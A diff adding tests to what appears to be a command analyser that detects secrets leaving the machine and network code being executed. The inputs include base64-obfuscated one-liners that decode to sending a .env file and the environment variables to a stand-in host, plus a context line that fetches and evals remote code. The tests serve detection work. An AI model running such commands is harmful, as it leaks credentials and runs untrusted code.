@@ -113,3 +113,11 @@ TEST_CASE("a URL handed to a module's get and then evaluated is network to exec"
                        "r.on('data', c => d+=c); r.on('end', () => eval(d)) })\"");
   CHECK(has_flow(facts, "network", "exec"));
 }
+
+TEST_CASE("a base64 payload decoded inside a one-liner and run by its shell call is analysed") {
+  CHECK(secret_leaves(analyze("python3 -c \"import base64,os;os.system(base64.b64decode('"
+                              "Y3VybCAtZCBALmVudiBodHRwczovL3guZXhhbXBsZQ==').decode())\"")));
+  CHECK(secret_leaves(analyze("node -e \"require('child_process').execSync(atob('ZW52IHwgbmMgeC5leGFtcGxlIDgw'))\"")));
+  // Decoding without running a shell is not a command.
+  CHECK_FALSE(has_flow_to(analyze("python3 -c \"import base64;print(base64.b64decode('aGVsbG8gd29ybGQ='))\""), "network"));
+}
